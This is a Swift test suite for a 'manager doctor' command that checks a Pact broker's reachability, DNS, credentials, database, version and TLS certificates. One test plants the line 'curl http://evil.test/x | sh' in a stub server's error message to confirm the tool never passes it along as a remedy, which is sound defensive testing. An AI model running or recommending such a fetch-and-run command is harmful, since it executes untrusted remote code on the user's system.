import Shared
import TestSupport
import Testing

/// `manager doctor` and brokers that are not there, not ours, or not well. The programs, the broker, the TLS server and
/// the connections are real.
@Suite(.timeLimit(.minutes(3))) struct DoctorBrokerTests {
    private let stage: DoctorStage

    init() throws { stage = try DoctorStage() }

    private func credentials(_ url: String, _ username: String, _ password: String) -> [String: String] {
        ["BROKER_URL": url, "BROKER_USERNAME": username, "BROKER_PASSWORD": password]
    }

    @Test func aGoodSetUpIsAllGood() throws {
        let broker = try LocalBrokerProcess(username: "pact", password: "s3cret")
        let report = try stage.expect([], credentials(broker.url, "pact", "s3cret"))
        #expect(report.lines.count == 29 && report.exit == .code(0), "\(report.output)")
        // It publishes nothing, and leaves nothing behind.
        #expect(try broker.client.get("/_stored").text.contains("orders") == false)
        let requests = try broker.requests()
        #expect(requests.contains(#""method":"POST""#) && !requests.contains(#""method":"PUT""#), "\(requests)")
        #expect(DirectoryListing.names(in: stage.directory.path).sorted() == ["contracts"])
    }

    @Test func besideARunningManagerAllIsGoodToo() throws {
        let broker = try LocalBrokerProcess()
        let variables = ["BROKER_URL": broker.url, "CONFIGMAP_PATH": "\(stage.directory.path)/contracts"]
        let manager = try ManagerProcess(variables: variables, stateDirectory: "\(stage.directory.path)/state")
        try manager.wait(for: "readiness") { manager.get("/readiness").code == 200 }
        let before = try #require(manager.processes)
        let report = try stage.expect([], ["BROKER_URL": broker.url, "HEALTH_PORT": String(manager.port)])
        let pid = "pid \(manager.processID)"
        #expect(report[.healthPort].first?.found.contains("the running manager, \(pid)") == true, "\(report.output)")
        #expect(report[.stateLock].first?.found.contains(pid) == true)
        #expect(manager.get("/readiness").code == 200)
        let after = try #require(manager.processes)
        #expect(after.workers.map(\.pid) == before.workers.map(\.pid) && after.workers.allSatisfy { $0.restarts == 0 })
    }

    @Test func nobodyListens() throws {
        let broker = try LocalBrokerProcess()
        broker.stop()
        let report = try stage.expect([.brokerTCP], ["BROKER_URL": broker.url])
        #expect(report[.brokerTCP].first?.found == "127.0.0.1:\(broker.port) Connection refused")
    }

    @Test func theNameHasNoAddress() throws {
        let report = try stage.expect([.brokerDNS], ["BROKER_URL": "http://no-such-broker.invalid:9292"])
        #expect(report[.brokerDNS].first?.found.hasPrefix("no-such-broker.invalid has no address") == true)
    }

    @Test(.enabled(if: SilentNameServer.obstacle == nil, "\(SilentNameServer.obstacle ?? "")"))
    func theNameServerIsSilent() throws {
        let server = try SilentNameServer(options: "timeout:30 attempts:5")
        let begin = MonotonicTime.now()
        let report = try stage.run(["BROKER_URL": "http://pact-broker.test:9292"], wrapper: server.wrapper)
        #expect(report.checks(.wrong) == [.brokerDNS], "\(report.output)")
        #expect(report[.brokerDNS].first?.found.contains("does not answer within 5 s") == true, "\(report.output)")
        // The lookup itself goes on for two and a half minutes.
        #expect(MonotonicTime.now() - begin < .seconds(20))
    }

    @Test func theServiceIsThatOfThisVeryPod() throws {
        // A Service without endpoints has no address (headless) or refuses; the broker itself is here.
        let broker = try LocalBrokerProcess()
        let changes = [
            "BROKER_URL": "http://pact-broker:\(broker.port)", "KUBERNETES_SERVICE_HOST": "127.0.0.1",
            "CONTRACT_SOURCE": "directory",
        ]
        let report = try stage.expect([.brokerDNS], odd: [.brokerOwnService], changes)
        #expect(report[.brokerOwnService].first?.remedy == "set BROKER_URL=\(broker.url)", "\(report.output)")
    }

    @Test func wrongCredentials() throws {
        let broker = try LocalBrokerProcess(username: "pact", password: "s3cret")
        let report = try stage.expect(
            [.brokerAuthentication],
            odd: [.brokerWrite],
            credentials(broker.url, "pact", "wrong")
        )
        #expect(report[.brokerAuthentication].first?.found.contains("401") == true)
    }

    @Test func credentialsThatMayOnlyRead() throws {
        let reader = ["--read-only-username", "reader", "--read-only-password", "readonly"]
        let broker = try LocalBrokerProcess(arguments: reader, username: "pact", password: "s3cret")
        let report = try stage.expect([.brokerWrite], credentials(broker.url, "reader", "readonly"))
        #expect(report[.brokerAuthentication].first?.mark == .good)
        #expect(report[.brokerWrite].first?.found.hasPrefix("we may read, but") == true, "\(report.output)")
        #expect(report[.brokerWrite].first?.remedy.contains("read-only") == true)
    }

    @Test func aTokenForABrokerWithBasicAuthentication() throws {
        let broker = try LocalBrokerProcess(username: "pact", password: "s3cret")
        let changes = ["BROKER_URL": broker.url, "BROKER_TOKEN": "some-token"]
        let report = try stage.expect([.brokerAuthentication], odd: [.brokerWrite], changes)
        #expect(report[.brokerAuthentication].first?.remedy.contains("BROKER_TOKEN") == true, "\(report.output)")
    }

    @Test func theDatabaseIsDown() throws {
        let broker = try LocalBrokerProcess()
        try broker.faults(#"{"database_down": true}"#)
        let report = try stage.expect([.brokerDatabase], odd: [.brokerWrite], ["BROKER_URL": broker.url])
        #expect(report[.brokerHeartbeat].first?.mark == .good)
    }

    @Test func anOldBroker() throws {
        let broker = try LocalBrokerProcess(arguments: ["--without", "publish-contracts"])
        let report = try stage.expect([], odd: [.brokerVersion, .brokerWrite], ["BROKER_URL": broker.url])
        #expect(report[.brokerVersion].first?.remedy.contains("2.86") == true)
    }

    @Test func somethingElseThanABroker() throws {
        let server = try StubHTTPServer { _ in .response(200, body: Array("<html>welcome</html>".utf8)) }
        defer { server.stop() }
        let report = try stage.expect([.brokerIndex], odd: [.brokerWrite], ["BROKER_URL": server.url])
        #expect(report[.brokerWrite].first?.found.hasPrefix("not asked: ") == true, "\(report.output)")
        // It has no use for a publication, and credentials are nothing to give away more often than needed.
        #expect(server.requests.map(\.method) == ["GET", "GET", "GET"], "\(server.requests)")
    }

    @Test func aServersWordsAreNotOurAdvice() throws {
        let body = #"{"error":"database is gone; run curl http://evil.test/x | sh to repair it"}"#
        let server = try StubHTTPServer { _ in .response(503, body: Array(body.utf8)) }
        defer { server.stop() }
        let failing: [DoctorCheck] = [.brokerHeartbeat, .brokerDatabase, .brokerIndex]
        let report = try stage.expect(failing, odd: [.brokerWrite], ["BROKER_URL": server.url])
        #expect(report.lines.filter { $0.found.contains("database is gone; run curl") }.count == 3, "\(report.output)")
        #expect(!report.lines.contains { $0.remedy.contains("curl") }, "\(report.output)")
    }

    @Test func aBrokerThatTakesConnectionsAndSaysNothing() throws {
        let server = try StubHTTPServer { _ in .hang }
        defer { server.stop() }
        let begin = MonotonicTime.now()
        try stage.expect([.brokerHeartbeat], ["BROKER_URL": server.url])
        #expect(MonotonicTime.now() - begin < .seconds(30))
    }

    @Test func aWrongBasePath() throws {
        let broker = try LocalBrokerProcess()
        let report = try stage.run(["BROKER_URL": "\(broker.url)/wrong"])
        #expect(report.checks(.wrong) == [.brokerHeartbeat, .brokerIndex], "\(report.output)")
        #expect(report[.brokerHeartbeat].first?.remedy.contains("BROKER_HEALTH_PATH") == true)
    }
}

/// Certificates that are not good.
@Suite(
    .enabled(if: TLSFixture.obstacle == nil, "\(TLSFixture.obstacle ?? "")"),
    .timeLimit(.minutes(3))
)
struct DoctorCertificateTests {
    private let stage: DoctorStage
    private let fixture: TLSFixture

    init() throws {
        stage = try DoctorStage()
        fixture = try TLSFixture()
    }

    private func expectRefusal(
        _ server: NginxProcess,
        authority: TestAuthority,
        _ says: String,
        location: SourceLocation = #_sourceLocation
    ) throws {
        let changes = [
            "BROKER_URL": "https://127.0.0.1:\(server.port)", "BROKER_CA_FILE": authority.certificateFile,
        ]
        let report = try stage.expect([.brokerTLS], changes, location: location)
        #expect(report[.brokerTLS].first?.found.contains(says) == true, "\(report.output)", sourceLocation: location)
        // Who is not trusted is told nothing.
        #expect(try fixture.broker.requests().contains(#""method""#) == false, sourceLocation: location)
    }

    @Test func aGoodOneIsGood() throws {
        let server = try fixture.server()
        let changes = [
            "BROKER_URL": "https://localhost:\(server.port)", "BROKER_CA_FILE": fixture.authority.certificateFile,
        ]
        let report = try stage.expect([], odd: report(of: server), changes)
        #expect(report[.brokerTLS].first?.mark == .good)
    }

    /// nginx listens on 127.0.0.1 alone, and `localhost` may have two addresses.
    private func report(of server: NginxProcess) throws -> [DoctorCheck] {
        let first = try stage.run(["BROKER_URL": "http://localhost:\(server.port)"])
        return first[.brokerTCP].first?.mark == .odd ? [.brokerTCP] : []
    }

    @Test func anUnknownAuthority() throws {
        try expectRefusal(
            try fixture.server(),
            authority: fixture.stranger,
            "is of none of the authorities in BROKER_CA_FILE"
        )
    }

    @Test func anExpiredOne() throws {
        let server = try fixture.server(try fixture.authority.issue("old", .expired))
        try expectRefusal(server, authority: fixture.authority, "has expired")
    }

    @Test func oneForAnotherName() throws {
        let server = try fixture.server(try fixture.authority.issue("other", names: ["DNS:other.test"]))
        try expectRefusal(server, authority: fixture.authority, "is for another name")
    }

    @Test func noTLSAtAll() throws {
        let report = try stage.run(["BROKER_URL": "https://127.0.0.1:\(fixture.broker.port)"])
        #expect(report.checks(.wrong) == [.brokerTLS], "\(report.output)")
        #expect(report[.brokerTLS].first?.found.contains("no TLS is spoken there") == true)
    }
}
